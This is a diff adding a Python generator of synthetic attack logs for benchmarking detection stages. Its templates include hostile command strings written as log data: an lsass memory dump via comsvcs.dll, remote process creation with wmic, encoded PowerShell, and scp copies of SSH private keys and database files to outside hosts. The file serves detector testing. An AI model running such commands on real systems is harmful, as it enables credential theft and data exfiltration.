@@ -0,0 +1,118 @@
+"""
+Synthetic attack-log generator for benchmarks.
+
+Emits `time src -> dst : msg` lines (the format agent_tools.parser expects)
+mixing brute-force, lateral-movement and exfiltration episodes with benign
+noise. Attack messages use the same keywords the mappers look for
+(mitre_map_ibmrag.LOOKUPS, app.fm_mitre_map, anomaly.apply_rules) and some
+lines carry IPs from enrich.BAD_IPS so every stage has real work to do.
+
+    python -m bench.synthlog --events 100000 --noise 0.7 > big.log
+"""
+import argparse
+import random
+import sys
+from datetime import datetime, timedelta
+from typing import Iterator, List, Optional
+
+from agent_tools.enrich import BAD_IPS as _ENRICH_BAD_IPS
+
+# sorted: a set's iteration order varies between runs, and rnd.choice needs a sequence
+BAD_IPS = tuple(sorted(_ENRICH_BAD_IPS))
+
+BRUTE = (
+    "Failed SSH login for {user} from {ip}",
+    "failed login for {user} from {ip} (ssh2)",
+    "sshd: authentication failure user={user} rhost={ip}",
+    "possible bruteforce: 20 attempts for {user} from {ip}",
+)
+LATERAL = (
+    "rdp session opened by {user} from {ip}",
+    "lateral movement via psexec as {user}",
+    "powershell -enc SQBFAFgA spawned by {user}",
+    "wmic /node:{dst} process call create cmd.exe",
+    "rundll32.exe comsvcs.dll MiniDump lsass",
+)
+EXFIL = (
+    "scp dump /var/lib/mysql -> s3://exfil-{n}",
+    "exfil 1.{n}GB over 443 to {ip}",
+    "scp /home/{user}/.ssh/id_rsa {ip}:/tmp/",
+)
+NOISE = (
+    "GET /index.html 200 {n}ms",
+    "cron job backup-rotate completed in {n}s",
+    "user {user} logged out",
+    "healthcheck ok latency={n}ms",
+    "POST /api/v1/orders 201 {n}ms",
+    "ntp sync offset=0.0{n}s",
+    "Accepted publickey for {user} from 10.0.{n}.5",
+)
+USERS = ("admin", "root", "svc_backup", "alice", "bob", "deploy")
+
+
+class SynthConfig:
+    def __init__(self, events: int = 10000, noise: float = 0.7, hosts: int = 50,
+                 seed: int = 1337, start: str = "2025-08-25T10:00:00"):
+        self.events = events
+        self.noise = noise
+        self.hosts = hosts
+        self.seed = seed
+        self.start = datetime.fromisoformat(start)
+
+
+def _hosts(n: int) -> List[str]:
+    roles = ("web", "db", "app", "fs", "dc", "mail", "dev", "bastion")
+    return [f"{roles[i % len(roles)]}{i:02d}" for i in range(max(2, n))]
+
+
+def generate_lines(cfg: Optional[SynthConfig] = None) -> Iterator[str]:
+    cfg = cfg or SynthConfig()
+    rnd = random.Random(cfg.seed)
+    hosts = _hosts(cfg.hosts)
+    t = cfg.start
+    emitted = 0
+    while emitted < cfg.events:
+        if rnd.random() < cfg.noise:
+            episode = [(rnd.choice(hosts), None, rnd.choice(NOISE))]
+        else:
+            # one attack episode: brute force burst, then pivot, then exfil
+            attacker = rnd.choice(hosts)
+            victim = rnd.choice(hosts)
+            pivot = rnd.choice(hosts)
+            kind = rnd.random()
+            if kind < 0.5:
+                episode = [(attacker, victim, rnd.choice(BRUTE)) for _ in range(rnd.randint(5, 30))]
+            elif kind < 0.8:
+                episode = [(victim, pivot, rnd.choice(LATERAL)) for _ in range(rnd.randint(1, 4))]
+            else:
+                episode = [(pivot, rnd.choice(hosts), rnd.choice(EXFIL)) for _ in range(rnd.randint(1, 3))]
+        for src, dst, tmpl in episode:
+            if emitted >= cfg.events:
+                break
+            t += timedelta(seconds=rnd.randint(0, 3))
+            ip = rnd.choice(BAD_IPS) if rnd.random() < 0.3 else f"10.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
+            msg = tmpl.format(user=rnd.choice(USERS), ip=ip, n=rnd.randint(1, 99), dst=dst or src)
+            ts = t.strftime("%Y-%m-%dT%H:%M:%SZ")
+            yield f"{ts} {src} -> {dst} : {msg}" if dst else f"{ts} {src} : {msg}"
+            emitted += 1
+
+
+def generate_text(cfg: Optional[SynthConfig] = None) -> str:
+    return "\n".join(generate_lines(cfg)) + "\n"
+
+
+def main(argv: Optional[List[str]] = None) -> None:
+    ap = argparse.ArgumentParser(description="Generate a synthetic attack log")
+    ap.add_argument("--events", type=int, default=10000)
+    ap.add_argument("--noise", type=float, default=0.7, help="fraction of benign episodes")
+    ap.add_argument("--hosts", type=int, default=50)
+    ap.add_argument("--seed", type=int, default=1337)
+    args = ap.parse_args(argv)
+    cfg = SynthConfig(events=args.events, noise=args.noise, hosts=args.hosts, seed=args.seed)
+    out = sys.stdout
+    for line in generate_lines(cfg):
+        out.write(line + "\n")
+
+
+if __name__ == "__main__":
+    main()